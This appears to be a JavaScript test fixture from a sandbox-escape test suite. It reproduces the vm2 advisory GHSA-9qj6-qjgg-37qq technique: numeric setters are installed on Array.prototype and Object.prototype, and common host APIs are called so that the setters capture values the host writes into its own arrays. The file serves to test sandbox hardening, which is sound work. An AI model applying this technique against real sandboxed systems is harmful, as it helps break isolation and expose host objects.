// GHSA-9qj6-qjgg-37qq, vm2: a setter for a number on `Array.prototype` is called when the membrane, in the same realm, fills a list of its
// own, and takes what is written.
const attacks = {
  "setters for numbers": {
    ends: ["ok", "app-threw"],
    async run(request) {
      for (let i = 0; i < 16; i++) {
        for (const prototype of [Array.prototype, Object.prototype])
          Object.defineProperty(prototype, i, {
            set(value) {
              kept[`value ${kept.count++}`] = value;
              Object.defineProperty(this, i, { value, writable: true, configurable: true, enumerable: true });
            },
            configurable: true,
          });
      }
      try {
        console.log("x", [1], { a: 1 });
        new Headers({ a: "b" }).get("a");
        new URL("http://a/?b=c").searchParams.get("b");
        await request.text();
        await fetch("http://127.0.0.1/").catch(() => {});
        structuredClone([[1], [2]]);
        setTimeout(() => {}, 0, 1, 2);
        new EventTarget().addEventListener("x", () => {});
        await new Response(new Blob(["x"]).stream()).text();
      } finally {
        for (let i = 0; i < 16; i++) (delete Array.prototype[i], delete Object.prototype[i]);
      }
      return probe(...Object.values(kept));
    },
  },
};
const kept = { __proto__: null, count: 0 };
